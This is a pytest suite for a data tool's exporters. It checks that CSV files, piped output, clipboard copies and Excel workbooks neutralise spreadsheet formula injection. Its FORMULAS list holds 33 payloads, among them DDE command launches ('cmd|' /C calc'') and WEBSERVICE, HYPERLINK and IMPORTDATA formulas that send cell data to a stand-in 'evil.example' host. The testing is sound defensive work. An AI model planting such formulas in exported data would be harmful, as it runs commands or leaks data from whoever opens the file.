"""Attacks by text that a spreadsheet runs: 33 formulas, in each place where rows become a table."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

import stnb
from stnb.cli.terminal import print_csv
from stnb.explorer.grid import clipboard
from stnb.frame import cells, csv_file

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    '=WEBSERVICE("http://evil.example/"&A2)',
    '=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a/a10")',
    '=IMPORTDATA("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "=2+5+cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "++1",
    "+1 (602) 555-0100",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "--1",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\n\n=1+1",
    "\t\t@A1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '="a"\n=1',
    '=1+1";=1+1',
    "=1+1,=1+1",
    "+A1",
    "-A1",
]


@pytest.fixture(params=FORMULAS, ids=repr)
def frame(request: pytest.FixtureRequest) -> pd.DataFrame:
    """The formula as the name of a column, in a text, in a category and beside other objects."""
    text = request.param
    columns = {
        text: pd.Series([text], dtype="str"),
        "category": pd.Series([text], dtype="category"),
        "object": pd.Series([text], dtype=object),
        "index": pd.Series([-1.5], dtype="Float64"),
    }
    return pd.DataFrame(columns)


def check(content: bytes, formula: str) -> None:
    """Every cell is the text behind an apostrophe, and the number is a number."""
    header, row = csv.reader(io.StringIO(content.decode(), newline=""))
    assert header[0] == f"'{formula}"
    assert row == [f"'{formula}"] * 3 + ["-1.5"]


def test_there_are_33() -> None:
    """None stands twice."""
    assert len(set(FORMULAS)) == 33


@pytest.mark.parametrize("before", ["\ufeff", "\x00", "\ufeff\x00\ufeff"])
def test_what_a_reader_drops_hides_no_formula(tmp_path: Path, before: str) -> None:
    """As the mark at the beginning of a file, where the name of the first column stands."""
    for formula in ("=1+1", "@A1", "\t=1", "＝1"):
        text = before + formula
        frame = pd.DataFrame({text: pd.Series([text], dtype=object)})
        lines = stnb.save(frame, tmp_path / "x.csv").read_bytes().decode().split("\n", 2)[:2]
        assert all(line.strip('"').startswith(f"'{before}") for line in lines)


BLANKS = [sign for sign in map(chr, range(0x10000)) if sign.isspace()]


@pytest.mark.parametrize("before", BLANKS, ids=ascii)
def test_a_blank_hides_no_formula(before: str) -> None:
    """A reader that trims its cells finds the sign behind any white space, however much."""
    for sign in cells.SIGNS:
        for blanks in (before, before * 3, f" {before}", f"{before}\ufeff ", f"\x00{before}"):
            text = f"{blanks}{sign}1+1"
            told = io.BytesIO()
            csv_file.write(pd.DataFrame({text: [text]}), told)
            header, row = csv.reader(io.StringIO(told.getvalue().decode(), newline=""))
            assert [*header, *row] == [f"'{text}"] * 2
            copied = clipboard.column(pd.Series([text]), np.arange(1))[0]
            assert copied.removeprefix('"').startswith("'")


@pytest.mark.parametrize("text", [" -5.20", " +16025550100", "\u3000-1:30:00", " a=b", " ", " (=1"])
def test_a_blank_makes_no_formula_of_a_number(text: str) -> None:
    """Numbers, durations and words behind a blank stay as they are."""
    told = io.BytesIO()
    csv_file.write(pd.DataFrame({"a": [text], "b": [1]}), told)

    assert list(csv.reader(io.StringIO(told.getvalue().decode())))[1] == [text, "1"]


def test_no_formula_in_a_csv_file(frame: pd.DataFrame) -> None:
    """Whatever it begins with, in cells and in the header."""
    check(stnb.save(frame, "x.csv").read_bytes(), str(frame.columns[0]))


def test_no_formula_in_a_pipe(
    frame: pd.DataFrame, capfdbinary: pytest.CaptureFixture[bytes]
) -> None:
    """The pipe of `stnb pull` and `stnb sql` is made by the same writer."""
    print_csv(frame)

    check(capfdbinary.readouterr().out, str(frame.columns[0]))


def test_no_formula_in_a_copied_row_or_column(frame: pd.DataFrame) -> None:
    """What is pasted into a spreadsheet; a negative number stays one."""
    row = clipboard.row(frame, 0, [0, 3])
    column, count = clipboard.column(frame.iloc[:, 0], np.arange(1))

    assert count == 1
    for text in (row, column):
        assert text.removeprefix('"').startswith("'")
    assert row.endswith("\t-1.5")


def test_no_formula_in_the_name_of_a_group(frame: pd.DataFrame) -> None:
    """An index becomes a column, and is no way around."""
    name = str(frame.columns[0])
    grouped = frame.set_index(name)

    check(stnb.save(grouped, "x.csv").read_bytes(), name)


def test_no_formula_in_a_workbook(frame: pd.DataFrame) -> None:
    """The very text, marked as text; neither in the data nor in the sheet about them."""
    name = str(frame.columns[0])
    frame.attrs["stnb"] = {"resource": name, "began": name, "params": {name: name}}

    book = openpyxl.load_workbook(stnb.save(frame, Path("x.xlsx")))

    for sheet in book:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)
    header, cell = book["data"]["A1"], book["data"]["A2"]
    for found in (header, cell):
        assert str(found.value).replace("_x000D_", "\r").replace("\r\n", "\n") == name.replace(
            "\r\n", "\n"
        )
        assert found.quotePrefix
